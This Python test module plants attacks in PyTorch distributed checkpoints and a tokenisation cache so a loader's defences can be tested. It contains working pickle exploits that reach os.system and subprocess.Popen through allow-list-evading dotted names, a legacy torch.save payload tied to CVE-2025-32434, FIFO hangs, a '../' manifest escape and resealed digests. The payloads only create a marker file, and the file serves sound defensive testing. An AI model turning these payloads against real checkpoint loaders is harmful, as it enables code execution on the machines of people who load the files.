"""Hostile checkpoints: each function plants one attack in a checkpoint directory, then reseals it.

    plant_metadata_os_system(run_dir / "checkpoints" / "step_00000002", tmp_path / "MARKER")
    # resuming from that directory must refuse it, and MARKER must never appear

Every payload that can run anything does one thing only: it creates the marker file, so a test
knows for certain whether it ran. Payloads are written as an attacker would write them, against
the files the loader reads. Digests in `manifest.json` are integrity, not authenticity: whoever
can write a checkpoint can rewrite its manifest, so every payload reseals it (`seal`) and the
defences are tested without the digests' help. The last payload poisons a tokenisation cache
entry instead of a checkpoint.
"""

from __future__ import annotations

import hashlib
import io
import json
import os
import pickle
import pickletools
import shlex
import struct
from pathlib import Path

import numpy as np
import torch
from torch.distributed.checkpoint.filesystem import _StorageInfo
from torch.distributed.checkpoint.metadata import BytesStorageMetadata, Metadata, MetadataIndex

MANIFEST = "manifest.json"
METADATA = ".metadata"
STATE = "trainer_state.json"
RNG = "rng/rank0.safetensors"

# DCP modules that happen to import `operator`, `io` and `torch`: names under them reach
# `operator.methodcaller` & co, `io.FileIO` and `subprocess.Popen` by dotted lookup.
_PLANNER = "torch.distributed.checkpoint.planner"
_FILESYSTEM = "torch.distributed.checkpoint.filesystem"
_EXTENSION = "torch.distributed.checkpoint._extension"
_POPEN = "torch.utils.collect_env.subprocess.Popen"  # torch imports collect_env at start-up


def seal(checkpoint_dir: Path) -> None:
    """Rewrite `manifest.json` to match the directory as it is now; no-op without a manifest.

    seal(checkpoint_dir)   # {"format": 1, "files": {"rng/rank0.safetensors": {...}, ...}}
    """
    manifest = checkpoint_dir / MANIFEST
    if not manifest.is_file():
        return
    # Keep whatever else the loader writes there; only the file list is the attacker's concern.
    record = json.loads(manifest.read_text(encoding="utf-8"))
    record["files"] = {
        file.relative_to(checkpoint_dir).as_posix(): {
            "bytes": file.stat().st_size,
            "sha256": hashlib.sha256(file.read_bytes()).hexdigest(),
        }
        for file in sorted(checkpoint_dir.rglob("*"))
        if file.is_file() and file != manifest
    }
    manifest.write_text(json.dumps(record, indent=2), encoding="utf-8")


# ---- .metadata ----------------------------------------------------------------------------------


def plant_metadata_os_system(checkpoint_dir: Path, marker: Path) -> None:
    """os.system('touch MARKER') through dotted names the old check took for DCP's own types.

    methodcaller('system', cmd)(itemgetter('os')(attrgetter('__init__.__globals__')(
    FileSystemReader))): every global is a *type* found under a torch.distributed.checkpoint
    module, and the calls themselves are REDUCE opcodes, which no find_class ever sees.
    """
    command = f"touch {shlex.quote(str(marker))}"
    ops = (
        _global(_PLANNER, "operator.methodcaller")
        + _text("system")
        + _text(command)
        + _TUPLE2
        + _REDUCE
        + _global(_PLANNER, "operator.itemgetter")
        + _text("os")
        + _TUPLE1
        + _REDUCE
        + _global(_PLANNER, "operator.attrgetter")
        + _text("__init__.__globals__")
        + _TUPLE1
        + _REDUCE
        + _global(_FILESYSTEM, "FileSystemReader")
        + _TUPLE1
        + _REDUCE  # the filesystem module's globals
        + _TUPLE1
        + _REDUCE  # ... ['os']
        + _TUPLE1
        + _REDUCE  # os.system(command)
    )
    _prefix_metadata(checkpoint_dir, ops)


def plant_metadata_file_io(checkpoint_dir: Path, marker: Path) -> None:
    """io.FileIO(MARKER, 'w'), named `io.FileIO` under a DCP module: creates or truncates a file."""
    ops = _global(_EXTENSION, "io.FileIO") + _text(str(marker)) + _text("w") + _TUPLE2 + _REDUCE
    _prefix_metadata(checkpoint_dir, ops)


def plant_metadata_popen(checkpoint_dir: Path, marker: Path) -> None:
    """subprocess.Popen(['touch', MARKER]), reached by a dotted name from a DCP module."""
    ops = (
        _global(_FILESYSTEM, _POPEN)
        + _EMPTY_LIST
        + _text("touch")
        + _APPEND
        + _text(str(marker))
        + _APPEND
        + _TUPLE1
        + _REDUCE
    )
    _prefix_metadata(checkpoint_dir, ops)


def plant_metadata_reduce(checkpoint_dir: Path, marker: Path) -> None:
    """A genuine Metadata record carrying an object whose __reduce__ is os.system(cmd)."""
    metadata = _read_metadata(checkpoint_dir)
    metadata.planner_data = {"hook": _RunsCommand(f"touch {shlex.quote(str(marker))}")}
    (checkpoint_dir / METADATA).write_bytes(pickle.dumps(metadata))
    seal(checkpoint_dir)


# ---- .distcp shards -----------------------------------------------------------------------------


def plant_shard_byte_item(checkpoint_dir: Path, marker: Path) -> None:
    """A byte item for `optim.param_groups.0.lr` whose bytes run a command on torch.load.

    DCP loads byte items with torch.load(weights_only=False). The metadata gets a
    BytesStorageMetadata entry pointing at the payload, appended to a shard; the metadata
    itself names only DCP's own record types, so an unpickler's allow-list admits it.
    """
    payload = io.BytesIO()
    torch.save(_RunsCommand(f"touch {shlex.quote(str(marker))}"), payload)
    key = "optim.param_groups.0.lr"
    metadata = _read_metadata(checkpoint_dir)
    metadata.state_dict_metadata[key] = BytesStorageMetadata()
    metadata.storage_data[MetadataIndex(key)] = _append_to_shard(checkpoint_dir, payload.getvalue())
    if metadata.planner_data is not None:  # DCP maps flattened keys back through planner_data
        metadata.planner_data[key] = ("optim", "param_groups", 0, "lr")
    (checkpoint_dir / METADATA).write_bytes(pickle.dumps(metadata))
    seal(checkpoint_dir)


def plant_shard_tensor_pickle(checkpoint_dir: Path, marker: Path) -> None:
    """The bytes of tensor `model.embed.weight` replaced by a legacy-format torch.save pickle.

    Tensors are read with torch.load(weights_only=True); the legacy (non-zip) format is where
    that flag once failed to hold (CVE-2025-32434), so this is the format an attacker tries.
    """
    payload = io.BytesIO()
    command = _RunsCommand(f"touch {shlex.quote(str(marker))}")
    torch.save(command, payload, _use_new_zipfile_serialization=False)
    metadata = _read_metadata(checkpoint_dir)
    index = next(index for index in metadata.storage_data if index.fqn == "model.embed.weight")
    metadata.storage_data[index] = _append_to_shard(checkpoint_dir, payload.getvalue())
    (checkpoint_dir / METADATA).write_bytes(pickle.dumps(metadata))
    seal(checkpoint_dir)


def plant_shard_fifo(checkpoint_dir: Path, marker: Path) -> None:
    """One tensor's bytes moved to a new shard name in the checkpoint that is a FIFO.

    A FIFO is not a regular file, so a manifest of regular files neither lists it nor calls it
    extra; a reader that opens it blocks forever (the test's timeout catches the hang).
    `marker` is unused.
    """
    del marker
    fifo = checkpoint_dir / "__0_1.distcp"
    os.mkfifo(fifo)
    metadata = _read_metadata(checkpoint_dir)
    index = next(index for index in metadata.storage_data if index.fqn == "model.embed.weight")
    moved = metadata.storage_data[index]
    metadata.storage_data[index] = _StorageInfo(fifo.name, moved.offset, moved.length)
    (checkpoint_dir / METADATA).write_bytes(pickle.dumps(metadata))
    seal(checkpoint_dir)


# ---- JSON and safetensors -----------------------------------------------------------------------


def plant_rng_pickle(checkpoint_dir: Path, marker: Path) -> None:
    """rng/rank0.safetensors replaced by a torch.save pickle, in case the loader falls back."""
    torch.save(_RunsCommand(f"touch {shlex.quote(str(marker))}"), checkpoint_dir / RNG)
    seal(checkpoint_dir)


def plant_state_deep_nesting(checkpoint_dir: Path, marker: Path) -> None:
    """trainer_state.json nested 100 000 deep: json raises RecursionError, not JSONDecodeError.

    JSON cannot name code, so `marker` is unused; the attack is a crash the loader must turn
    into a one-line refusal instead of a traceback.
    """
    del marker
    (checkpoint_dir / STATE).write_text("[" * 100_000 + "]" * 100_000, encoding="utf-8")
    seal(checkpoint_dir)


def plant_state_scheduler_attributes(checkpoint_dir: Path, marker: Path) -> None:
    """A scheduler state with an extra `optimizer` key, which LambdaLR.load_state_dict pours
    into the scheduler's __dict__, replacing its optimizer with a string.

    Every value is a JSON scalar and everything else is left as written, so a schema of
    "a dict of scalars" and checks of the step and rates all pass; training then trips over
    it mid-step. JSON cannot run code (`marker` is unused): the loader must refuse a state
    that is not the shape it wrote.
    """
    del marker
    state = json.loads((checkpoint_dir / STATE).read_text(encoding="utf-8"))
    state["scheduler"]["optimizer"] = "not an optimizer"
    (checkpoint_dir / STATE).write_text(json.dumps(state), encoding="utf-8")
    seal(checkpoint_dir)


def plant_state_unchecked_rates(checkpoint_dir: Path, marker: Path) -> None:
    """A scheduler whose base rates are strings, in a state that records no run settings.

    Without recorded settings a state reads as a bare API checkpoint, which has no schedule to
    compare the rates with; the attacker empties them to switch those checks off. `marker` is
    unused: the loader must still refuse rates that are not numbers.
    """
    del marker
    state = json.loads((checkpoint_dir / STATE).read_text(encoding="utf-8"))
    if "config" in state:
        state["config"] = {}
    state["scheduler"]["base_lrs"] = ["not a rate"] * len(state["scheduler"]["base_lrs"])
    (checkpoint_dir / STATE).write_text(json.dumps(state), encoding="utf-8")
    seal(checkpoint_dir)


def plant_manifest_deep_nesting(checkpoint_dir: Path, marker: Path) -> None:
    """manifest.json nested 100 000 deep: json raises RecursionError, not a ValueError.

    The manifest is the first file a loader reads, so a crash here is a traceback before any
    other check. `marker` is unused.
    """
    del marker
    # Nothing to seal: the manifest itself is the payload.
    (checkpoint_dir / MANIFEST).write_text("[" * 100_000 + "]" * 100_000, encoding="utf-8")


def plant_manifest_escape(checkpoint_dir: Path, marker: Path) -> None:
    """A sealed manifest that also lists a FIFO outside the checkpoint, via `../`.

    A loader that opens whatever the manifest names blocks forever on the FIFO (the test's
    timeout catches it) instead of refusing a path outside the checkpoint. `marker` is unused.
    """
    del marker
    fifo = checkpoint_dir.parent.parent / "outside.fifo"
    if not fifo.exists():
        os.mkfifo(fifo)
    manifest = checkpoint_dir / MANIFEST
    if not manifest.is_file():  # the old format has none: plant one, the attack is the same
        manifest.write_text(json.dumps({"format": 1, "files": {}}), encoding="utf-8")
    seal(checkpoint_dir)
    record = json.loads(manifest.read_text(encoding="utf-8"))
    escape = Path(os.path.relpath(fifo, checkpoint_dir)).as_posix()
    record["files"][escape] = {"bytes": 0, "sha256": hashlib.sha256(b"").hexdigest()}
    manifest.write_text(json.dumps(record, indent=2), encoding="utf-8")


# ---- the tokenisation cache ---------------------------------------------------------------------


def plant_cache_object_arrays(entry: Path, marker: Path) -> None:
    """Overwrite cache entry `entry` with an .npz whose every member is a pickled object array."""
    hostile = np.array([_RunsCommand(f"touch {shlex.quote(str(marker))}")], dtype=object)
    with np.load(entry, allow_pickle=False) as stored:
        names = list(stored.files)
    with open(entry, "wb") as handle:
        np.savez(handle, **dict.fromkeys(names, hostile))


# ---- pickle by hand -----------------------------------------------------------------------------


class _RunsCommand:
    """Pickles as os.system(command): what an attacker's own pickle holds."""

    def __init__(self, command: str) -> None:
        self.command = command

    def __reduce__(self) -> tuple:
        return (os.system, (self.command,))


_TUPLE1, _TUPLE2, _REDUCE, _POP = b"\x85", b"\x86", b"R", b"0"
_EMPTY_LIST, _APPEND = b"]", b"a"


def _text(value: str) -> bytes:
    raw = value.encode()
    if len(raw) < 256:
        return b"\x8c" + bytes([len(raw)]) + raw  # SHORT_BINUNICODE
    return b"X" + struct.pack("<I", len(raw)) + raw  # BINUNICODE


def _global(module: str, name: str) -> bytes:
    # STACK_GLOBAL: under protocol 4 the unpickler walks a dotted `name` with getattr.
    return _text(module) + _text(name) + b"\x93"


def _prefix_metadata(checkpoint_dir: Path, ops: bytes) -> None:
    """Run `ops` first, drop their result, then unpickle the genuine metadata as usual.

    A loader that only checks what the pickle returns sees a real Metadata record.
    """
    body = _unframed(pickle.dumps(_read_metadata(checkpoint_dir), protocol=4))
    (checkpoint_dir / METADATA).write_bytes(b"\x80\x04" + ops + _POP + body)
    seal(checkpoint_dir)


def _unframed(pickled: bytes) -> bytes:
    # Frames only delimit reads; without them (and PROTO) the opcodes can follow our prefix.
    ops = list(pickletools.genops(pickled))
    ends = [pos for _, _, pos in ops[1:]] + [len(pickled)]
    return b"".join(
        pickled[pos:end]
        for (op, _, pos), end in zip(ops, ends, strict=True)
        if op.name not in ("PROTO", "FRAME")
    )


def _read_metadata(checkpoint_dir: Path) -> Metadata:
    # The test is trusted, and the file is the one our own trainer just wrote.
    return pickle.loads((checkpoint_dir / METADATA).read_bytes())


def _append_to_shard(checkpoint_dir: Path, payload: bytes) -> _StorageInfo:
    shard = min(checkpoint_dir.glob("*.distcp"))
    offset = shard.stat().st_size
    with open(shard, "ab") as handle:
        handle.write(payload)
    return _StorageInfo(relative_path=shard.name, offset=offset, length=len(payload))
